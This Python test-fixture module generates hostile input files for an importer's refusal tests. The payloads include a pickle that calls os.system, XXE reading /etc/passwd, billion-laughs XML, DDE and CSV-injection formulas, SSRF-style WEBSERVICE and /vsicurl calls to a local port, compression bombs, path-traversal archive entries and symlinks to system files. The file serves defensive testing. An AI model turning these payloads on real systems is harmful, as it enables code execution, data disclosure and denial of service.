"""Files that no one should send, each made the same way every time, with the refusal that it must meet.

`BYTES` are the contents of files; `PLACES` make something else in a folder: a pipe, a link, gigabytes of holes.
Nothing here is harmful by itself: what would run or reach out asks for names that do not exist.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import socket
import sqlite3
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import Final

import pyarrow as pa
import pyarrow.parquet as pq

from tests.hostile.workbooks import (
    MAIN,
    cell,
    directory_lies,
    formula,
    many_names_for_one,
    rezipped,
    sheet,
    workbook,
    zipped,
)

Make = Callable[[], bytes]
MEGABYTE: Final = 1 << 20
NICS: Final = (
    "month,state,permit,permit_recheck,handgun,long_gun,other,multiple,admin,prepawn_handgun,prepawn_long_gun,"
    "prepawn_other,redemption_handgun,redemption_long_gun,redemption_other,returned_handgun,returned_long_gun,"
    "returned_other,rentals_handgun,rentals_long_gun,private_sale_handgun,private_sale_long_gun,private_sale_other,"
    "return_to_seller_handgun,return_to_seller_long_gun,return_to_seller_other,totals\n"
)
BTS: Final = "Port Name,State,Port Code,Border,Date,Measure,Value,Latitude,Longitude,Point\n"
LAUGHS: Final = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(2, 10))
    + "]><lolz>&lol9;</lolz>"
).replace("&lol1;", "&lol;")
HTML: Final = (
    "<!DOCTYPE html><html><head><title>503 Service Unavailable</title></head><body>Try again later</body></html>"
)
VRT: Final = (
    '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
)
PERSONS: Final = "make,type,serial_number,recovery_date\nGlock,pistol,ABC12345,2020-01-02\n"


def _polygon(*points: tuple[float, float]) -> bytes:
    geometry = {"type": "Polygon", "coordinates": [points]}
    return json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": geometry}]}).encode()


def _sqlite() -> bytes:
    with sqlite3.connect(":memory:") as base:
        base.execute("create table persons (name text)")
        return base.serialize()


class _Runs:
    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("touch /nonexistent/folder/ran",)


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../outside.csv"), io.BytesIO())
    return out.getvalue()


def _bomb(megabytes: int) -> bytes:
    """The gzip of so many megabytes of zeros, packed in parts so that making it takes no memory."""
    out, block = io.BytesIO(), bytes(MEGABYTE)
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as file:
        file.write(b"month,state,totals\n")
        for _ in range(megabytes):
            file.write(block)
    return out.getvalue()


def _dbf(rows: int, width: int) -> bytes:
    field = b"ENT_OCURR\0\0C\0\0\0\0" + bytes([width & 255]) + b"\0" * 15
    return struct.pack("<BBBBIHH20x", 3, 124, 1, 1, rows, 65, width) + field + b"\r" + b" 01" * 3 + b"\x1a"


def _parquet() -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table({"recovery_state": ["09"] * 100}), out)
    return out.getvalue()


def _broken_parquet() -> bytes:
    whole = _parquet()
    return whole[:4] + bytes(byte ^ 0x5A for byte in whole[4:-8]) + whole[-8:]


def _bts(point: str) -> bytes:
    return f"{BTS}San Ysidro,California,2504,US-Mexico Border,Jan 2024,Trucks,5,{point}\n".encode()


def _nics(permit: str, cells: int = 25) -> bytes:
    """One row of FBI NICS whose first number is this."""
    return f"{NICS}2023-09,Alabama,{permit}{',1' * (cells - 1)}\n".encode()


def _encrypted() -> bytes:
    whole = bytearray(workbook())
    at = whole.find(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


def _linked() -> bytes:
    entry = zipfile.ZipInfo("xl/link.xml")
    entry.external_attr = 0o120777 << 16
    return workbook({entry: b"/etc/passwd"})


def _lzma() -> bytes:
    return zipped({"xl/workbook.xml": b"<workbook/>"}, zipfile.ZIP_LZMA)


def _spread() -> bytes:
    return workbook({"xl/worksheets/sheet1.xml": sheet(cell("A1", "1") + cell("XFD1048576", "1"))})


def _repeated() -> bytes:
    """One text of 32,000 letters, shown in 300,000 cells: 4 MB of XML, 10 GB once each cell has its own."""
    shown = b"".join(b'<c r="A%d" t="s"><v>0</v></c>' % row for row in range(1, 300_001))
    strings = b'<sst xmlns="%s"><si><t>%s</t></si></sst>' % (MAIN.encode(), b"x" * 32_000)
    return workbook({"xl/worksheets/sheet1.xml": sheet(shown), "xl/sharedStrings.xml": strings})


def _huge_sheet() -> bytes:
    """3 MB that unpack to 1.5 GB, all stated in the directory."""
    return directory_lies(1_500 * MEGABYTE, honest=True)


def _broken_sheet() -> bytes:
    return workbook({"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c r='A1'><v>1</c></row>"})


def _hidden_formula() -> bytes:
    """The sheet is a part that looks like a picture by its name."""
    part = sheet(cell("A1", "3", "NOW()"))
    whole = workbook({"xl/media/image1.png": part, "xl/worksheets/sheet1.xml": b""})
    return rezipped(whole, "xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"media/image1.png")


def _crc() -> bytes:
    whole = bytearray(workbook())
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 16] ^= 0xFF
    return bytes(whole)


def _text(size: int) -> bytes:
    line = b"one,two,three,four,five,six,seven\n"
    return line * (size // len(line))


def _word(name: str) -> Make:
    return partial(zipped, {name: b"<x/>"})


BYTES: Final[Mapping[str, tuple[Make, str]]] = {
    # Something else under the name of a table.
    "empty.csv": (bytes, "zero_bytes"),
    "report.csv": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "kind"),
    "map.csv": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(40), "kind"),
    "photo.xlsx": (lambda: b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(40), "kind"),
    "scan.dbf": (lambda: b"II*\0" + bytes(40), "kind"),
    "persons.csv": (_sqlite, "kind"),
    "program.xlsx": (lambda: b"\x7fELF\x02\x01\x01" + bytes(60), "kind"),
    "setup.csv": (lambda: b"MZ\x90\0\x03" + bytes(60), "kind"),
    "script.csv": (lambda: b"#!/bin/sh\nrm -rf /nonexistent\n", "kind"),
    "pickle.csv": (lambda: pickle.dumps(_Runs(), protocol=4), "kind"),
    "drawing.csv": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "kind"),
    "letter.xlsx": (_word("word/document.xml"), "kind"),
    "calc.xlsx": (_word("mimetype"), "kind"),
    "java.xlsx": (_word("META-INF/MANIFEST.MF"), "kind"),
    "arrow.csv": (lambda: b"ARROW1\0\0" + bytes(40), "kind"),
    "error page.csv": (HTML.encode, "html"),
    "error page.xls": (f"\ufeff\n\n  {HTML.lower()}".encode, "html"),
    "table.xls": (lambda: b"<table><tr><td>month</td><td>state</td></tr></table>", "html"),
    "error page 16.csv": (lambda: HTML.encode("utf-16"), "html"),
    "old.xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "xls"),
    "old.xlsx": (
        lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "xls",
    ),
    "binary.xlsx": (_word("xl/workbook.bin"), "xls"),
    "locked.xlsx": (_encrypted, "xls"),
    # Archives.
    "month.zip": (partial(zipped, {"month.csv": b"a,b\n1,2\n"}), "archive"),
    "nothing.zip": (partial(zipped, {}), "archive"),
    "month.7z": (lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40), "archive"),
    "month.rar": (lambda: b"Rar!\x1a\x07\x01\0" + bytes(40), "archive"),
    "month.csv.xz": (lambda: lzma.compress(b"a,b\n"), "archive"),
    "month.csv.bz2": (lambda: bz2.compress(b"a,b\n"), "archive"),
    "month.csv.zst": (lambda: b"\x28\xb5\x2f\xfd" + bytes(40), "archive"),
    "month.tar": (_tar, "archive"),
    "bomb.csv.gz": (partial(_bomb, 700), "unpacked"),
    "bombs.csv.gz": (lambda: _bomb(40) * 30, "unpacked"),
    "cut.csv.gz": (lambda: gzip.compress(_text(10_000), mtime=0)[:-30], "damaged"),
    "flipped.csv.gz": (lambda: gzip.compress(_text(10_000), mtime=0)[:-8] + bytes(8), "damaged"),
    "garbage.csv.gz": (lambda: gzip.compress(b"a,b\n", mtime=0) + b"garbage after the end", "damaged"),
    "nothing.csv.gz": (lambda: gzip.compress(b"", mtime=0), "zero_bytes"),
    "twice.csv.gz.gz": (lambda: gzip.compress(gzip.compress(b"a,b\n", mtime=0), mtime=0), "nested"),
    "zip.gz": (lambda: gzip.compress(workbook(), mtime=0), "nested"),
    # Geometry, and files that would make a geometry library read or call elsewhere.
    "bow-tie.geojson": (partial(_polygon, (0, 0), (1, 1), (1, 0), (0, 1), (0, 0)), "geometry"),
    "infinite.geojson": (partial(_polygon, (0, 0), (1e308, float("inf")), (1, 0), (0, 0)), "geometry"),
    "swapped.geojson": (partial(_polygon, (32.5, -117.0), (32.6, -117.0), (32.6, -116.9), (32.5, -117.0)), "geometry"),
    "topology.csv": (lambda: b'{"type": "Topology", "objects": {}, "arcs": []}', "geometry"),
    "vrt.geojson": (lambda: VRT.format("/etc/passwd").encode(), "geometry"),
    "vrt.csv": (lambda: VRT.format("/vsicurl/http://127.0.0.1:9/secret.csv").encode(), "geometry"),
    "raster.csv": (lambda: b'<VRTDataset rasterXSize="1"><VRTRasterBand/></VRTDataset>', "geometry"),
    "places.kml": (lambda: b'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"/>', "geometry"),
    "places.gml": (lambda: b'<FeatureCollection xmlns:gml="http://www.opengis.net/gml"/>', "geometry"),
    "places.shp": (lambda: b"\0\0\x27\x0a" + bytes(96), "geometry"),
    "places.fgb": (lambda: b"fgb\x03fgb\0" + bytes(96), "geometry"),
    "places.csv": (lambda: b"POLYGON((0 0, 1 1, 1 0, 0 1, 0 0))\n", "geometry"),
    # JSON and XML.
    "deep.json": (lambda: b"[" * 200_000 + b"]" * 200_000, "kind"),
    "rows.json": (lambda: b'{"month": "2020-01", "rows": 1}', "kind"),
    "laughs.xml": (LAUGHS.encode, "entities"),
    "laughs.csv": (f"\n {LAUGHS}".encode, "entities"),
    "external.csv": (lambda: b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "entities"),
    # Workbooks.
    "cut.xlsx": (lambda: workbook()[:-40], "damaged"),
    "bomb.xlsx": (_huge_sheet, "unpacked"),
    "lies.xlsx": (partial(directory_lies, 100 * MEGABYTE, honest=False), "damaged"),
    "overlap.xlsx": (many_names_for_one, "unpacked"),
    "check sum.xlsx": (_crc, "damaged"),
    "comment.xlsx": (lambda: workbook()[:-2] + b"\x16\0" + workbook()[-22:], "damaged"),
    "climbs.xlsx": (lambda: workbook({"../../../tmp/outside.xml": b"<x/>"}), "parts"),
    "absolute.xlsx": (lambda: workbook({"/etc/cron.d/outside": b"<x/>"}), "parts"),
    "backslash.xlsx": (lambda: workbook({"xl\\..\\..\\outside.xml": b"<x/>"}), "parts"),
    "twice.xlsx": (lambda: workbook({"XL/Workbook.xml": b"<x/>"}), "parts"),
    "link.xlsx": (_linked, "parts"),
    "lzma.xlsx": (_lzma, "parts"),
    "parts.xlsx": (lambda: workbook({f"xl/media/{n}.png": b"" for n in range(2_500)}), "parts"),
    "nested.xlsx": (lambda: workbook({"xl/media/inner.bin": workbook()}), "nested"),
    "laughs.xlsx": (lambda: workbook({"xl/sharedStrings.xml": LAUGHS.encode()}), "entities"),
    "doctype.xlsx": (lambda: workbook({"xl/styles.xml": b"<!DOCTYPE x SYSTEM 'http://127.0.0.1:9/'><x/>"}), "entities"),
    "sixteen.xlsx": (lambda: workbook({"xl/styles.xml": LAUGHS.encode("utf-16")}), "binary"),
    "macro.xlsm": (lambda: workbook({"xl/vbaProject.bin": b"x"}), "active"),
    "links.xlsx": (lambda: workbook({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}), "active"),
    "embedded.xlsx": (lambda: workbook({"xl/embeddings/oleObject1.bin": b"x"}), "active"),
    "query.xlsx": (lambda: workbook({"xl/connections.xml": b"<connections/>"}), "active"),
    "formula.xlsx": (partial(formula, 'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)', "3"), "formula"),
    "hidden formula.xlsx": (_hidden_formula, "formula"),
    "dde.xlsx": (partial(formula, "cmd|' /C calc'!A0", "0"), "formula"),
    "stale.xlsx": (partial(formula, "SUM(A1:A2)", "4"), "formula"),
    "circular.xlsx": (partial(formula, "SUM(A1:A3)", "3"), "formula"),
    "spread.xlsx": (_spread, "area"),
    "repeated.xlsx": (_repeated, "repeated"),
    "broken.xlsx": (_broken_sheet, "workbook"),
    "blank.xlsx": (workbook, "unknown"),
    # Text.
    "nul.csv": (lambda: _text(70_000) + b"a\0b,1\n", "binary"),
    "bell.csv": (lambda: NICS.encode() + b"\x07\x1b[2J,Alabama\n", "binary"),
    "sixteen.csv": (lambda: NICS.encode("utf-16-le"), "binary"),
    "thirty-two.csv": (lambda: NICS.encode("utf-32"), "unknown encoding"),
    "line.csv": (lambda: b"a," * (20 * MEGABYTE), "long_line"),
    "late line.csv": (lambda: _text(18 * MEGABYTE) + b"x" * (300 * 1024) + b"\n", "long_line"),
    "million columns.csv": (lambda: b"a" + b",a" * 999_999, "long_line"),
    "columns.csv": (lambda: b",".join(b"c%d" % n for n in range(5_000)) + b"\n", "columns"),
    "large.csv": (partial(_text, 100 * MEGABYTE), "unknown"),
    "nothing known.csv": (lambda: b"a,b\n1,2\n", "unknown"),
    "only commas.csv": (lambda: b",,,\n" * 1_000, "unknown"),
    "dictionary.csv": (lambda: zlib.compress(_text(10_000)), "binary"),
    # dBase and Parquet.
    "rows.dbf": (partial(_dbf, 4_000_000_000, 3), "damaged"),
    "width.dbf": (partial(_dbf, 3, 0), "damaged"),
    "cut.parquet": (lambda: _parquet()[:-4], "damaged"),
    "flipped.parquet": (_broken_parquet, "damaged"),
    "short.parquet": (lambda: b"PAR1PAR1", "damaged"),
    "locked.parquet": (lambda: b"PARE" + bytes(40) + b"PARE", "kind"),
    # What only the importer can see.
    "infinity.csv": (partial(_nics, "inf"), "number"),
    "huge.csv": (partial(_nics, "1e308"), "whole number"),
    "long.csv": (partial(_nics, "9" * 200), "whole number"),
    "minus.csv": (partial(_nics, "-4"), "negative"),
    "injection.csv": (partial(_nics, "=cmd|' /C calc'!A0"), "number"),
    "ragged.csv": (partial(_nics, "1", cells=3), "ragged"),
    "mixed.csv": (
        lambda: _nics("1") + "2023-08,Michoacán,1\n".encode() + "2023-07,México,1\n".encode("mac_roman"),
        "encoding",
    ),
    "twice.csv": (lambda: _nics("1") + _nics("1").splitlines(keepends=True)[1], "duplicate"),
    "swapped.csv": (partial(_bts, "-117.03,32.54,POINT (32.54 -117.03)"), "port"),
    "infinite.csv": (partial(_bts, "inf,-inf,POINT (1e308 1e308)"), "port"),
    # About persons.
    "serial.csv": (PERSONS.encode, "personal_serial"),
    "names.csv": (lambda: b"trace_id;Apellido paterno;Nombre(s)\n1;Cantor;Ana\n", "personal_name"),
    "licence.csv": (lambda: b"state,who\nTX,9-99-999-99-9X-99999\nTX,1-57-999-01-9J-12345\n", "personal_licence"),
    "curp.csv": (lambda: b"estado,clave\nSonora,AAAA010101HSRXXX09\n", "personal_identity"),
    "street.xlsx": (
        lambda: workbook({"xl/worksheets/sheet1.xml": sheet(cell("A1", "Dealer Street"))}),
        "personal_address",
    ),
}


def _sparse(head: bytes, size: int, folder: Path) -> Path:
    path = folder / "sparse.csv"
    with path.open("wb") as file:
        file.write(head)
        file.truncate(size)
    return path


def _pipe(folder: Path) -> Path:
    os.mkfifo(folder / "pipe.csv")
    return folder / "pipe.csv"


def _socket(folder: Path) -> Path:
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(folder / "s"))
    return folder / "s"


def _link(target: str, folder: Path) -> Path:
    (folder / "link.csv").symlink_to(target)
    return folder / "link.csv"


def _folder(inside: Callable[[Path], object], folder: Path) -> Path:
    (folder / "records").mkdir()
    inside(folder / "records")
    return folder / "records"


def _link_out(inside: Path) -> None:
    (inside / "a.csv").symlink_to("/etc/passwd")


def _persons(inside: Path) -> None:
    (inside / "a.csv").write_text(PERSONS)


GIGABYTE: Final = 1 << 30
PLACES: Final[Mapping[str, tuple[Callable[[Path], Path], str]]] = {
    "gigabytes of zeros": (partial(_sparse, b"", 40 * GIGABYTE), "binary"),
    "zeros in memory": (partial(_sparse, b"", 400 * MEGABYTE), "binary"),
    "a header and a hole": (partial(_sparse, _text(100_000), 40 * GIGABYTE), "binary"),
    "a header and a small hole": (partial(_sparse, _text(100_000), 200 * MEGABYTE), "binary"),
    "a workbook of gigabytes": (partial(_sparse, b"PK\x03\x04", 3 * GIGABYTE), "too_large"),
    "a parquet of holes": (partial(_sparse, b"PAR1", 3 * GIGABYTE), "damaged"),
    "a pipe": (_pipe, "not_file"),
    "a socket": (_socket, "not_file"),
    "a device": (lambda _: Path("/dev/zero"), "not_file"),
    "a link to a device": (partial(_link, "/dev/zero"), "not_file"),
    "a link to nothing": (partial(_link, "nowhere"), "no_file"),
    "a link to itself": (partial(_link, "link.csv"), "no_file"),
    "a missing file": (lambda folder: folder / "missing.csv", "no_file"),
    "a name for a geometry library": (lambda _: Path("/vsicurl/http://127.0.0.1:9/x.csv"), "no_file"),
    "a name with a NUL": (lambda folder: folder / "a\0b.csv", "no_file"),
    "a name without end": (lambda folder: folder / ("x" * 5_000), "no_file"),
    "a file of the system": (lambda _: Path("/proc/self/environ"), "zero_bytes"),
    "an empty folder": (partial(_folder, lambda inside: None), "zero_bytes"),
    "a folder with a link out": (partial(_folder, _link_out), "not_file"),
    "a folder with a pipe": (partial(_folder, lambda inside: os.mkfifo(inside / "a.csv")), "not_file"),
    "a folder with a report": (partial(_folder, lambda inside: (inside / "a.csv").write_bytes(b"%PDF-1")), "kind"),
    "a folder with persons": (partial(_folder, _persons), "personal_serial"),
}  # fmt: skip


def make(name: str, folder: Path) -> Path:
    """The bad file of a name, in a folder that holds nothing else."""
    if name in PLACES:
        return PLACES[name][0](folder)
    path = folder / name
    path.write_bytes(BYTES[name][0]())
    return path


def expected(name: str) -> list[str]:
    """The codes of which the refusal has one."""
    return (PLACES[name] if name in PLACES else BYTES[name])[1].split()
